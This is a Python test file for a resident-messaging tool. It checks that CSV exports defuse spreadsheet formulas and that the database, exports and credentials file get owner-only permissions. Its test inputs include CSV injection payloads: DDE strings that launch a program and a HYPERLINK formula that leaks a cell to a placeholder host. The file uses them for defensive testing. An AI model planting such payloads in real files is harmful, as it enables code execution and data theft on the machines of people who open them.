"""Residents' messages stay private on disk, and an export cannot run code in a spreadsheet.

The data folder is readable by its owner only (0700); the database with its WAL and shared
memory files, exports and the credentials file are 0600, whatever the umask, also when they
existed before with looser modes. A CSV cell that a spreadsheet would read as a formula (it
starts with =, +, -, @, a tab or a carriage return: the OWASP rule) gets a leading quote.
"""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from webcare.channel import FetchResult, Identity, InboundItem, ItemKind
from webcare.config import Settings, sqlite_url
from webcare.inbox.ingest import ingest
from webcare.runtime import open_database
from webcare.storage.db import transaction
from webcare.storage.models import Account
from webcare.vocabulary import ConversationKind, Platform

T0 = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
CALC = "=cmd|' /C calc'!A0"
FORMULAS = [
    CALC,
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"klik")',
]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def loose_umask() -> Iterator[None]:
    """A common umask that makes new files world-readable (0644) and folders 0755."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def webcare(*args: str) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        [sys.executable, "-m", "webcare", *args],
        capture_output=True,
        text=True,
        timeout=60,
        env=os.environ,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    return result


def data_dir() -> Path:
    return Path(os.environ["WEBCARE_DATA_DIR"])


def fill_with_formulas() -> None:
    data = data_dir()
    database = open_database(Settings(sqlite_url(data), data, "nl"))
    try:
        with transaction(database.sessions) as session:
            account = Account(
                platform=Platform.X,
                external_id="4242",
                name=CALC,
                handle="gemeente",
                credential_ref="x:4242",
            )
            session.add(account)
            session.flush()
            items = [
                InboundItem(
                    str(100 + n),
                    None,
                    str(100 + n),
                    ConversationKind.PUBLIC_THREAD,
                    ItemKind.MENTION,
                    Identity(str(7 + n), formula, formula),
                    formula,
                    T0,
                    stream="mentions",
                )
                for n, formula in enumerate(FORMULAS)
            ]
            ingest(session, account.id, FetchResult(items=items), T0)
    finally:
        database.close()


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    fill_with_formulas()
    target = tmp_path / "inbox.csv"
    webcare("inbox", "export", "--format", "csv", "-o", str(target))
    with target.open(encoding="utf-8", newline="") as exported:  # a CR in a cell stays a CR
        rows = list(csv.DictReader(exported))
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS, strict=True):
        for column in ("account", "contact_handle", "contact_display_name", "message_text"):
            value = formula if column != "account" else CALC
            assert row[column] == "'" + value, (column, row[column])
    assert rows[0]["message_direction"] == "inbound"  # ordinary cells stay as they are


def test_the_data_folder_the_database_and_an_export_are_private(
    loose_umask: None, tmp_path: Path
) -> None:
    webcare("db", "upgrade")  # it creates the folder and the database
    data = data_dir()
    assert mode(data) == 0o700
    assert mode(data / "webcare.sqlite3") == 0o600
    database = open_database(Settings(sqlite_url(data), data, "nl"))
    try:
        with database.engine.connect():
            for suffix in ("-wal", "-shm"):
                assert mode(data / f"webcare.sqlite3{suffix}") == 0o600, suffix
    finally:
        database.close()
    target = tmp_path / "inbox.csv"
    webcare("inbox", "export", "--format", "csv", "-o", str(target))
    assert mode(target) == 0o600


def test_files_made_readable_by_others_before_are_made_private_again(loose_umask: None) -> None:
    webcare("db", "upgrade")
    data = data_dir()
    (data / "credentials.json").write_text("{}", encoding="utf-8")
    for path, loose in (
        (data, 0o755),
        (data / "webcare.sqlite3", 0o644),
        (data / "credentials.json", 0o644),
    ):
        path.chmod(loose)
    webcare("accounts", "list")
    assert mode(data) == 0o700
    assert mode(data / "webcare.sqlite3") == 0o600
    assert mode(data / "credentials.json") == 0o600
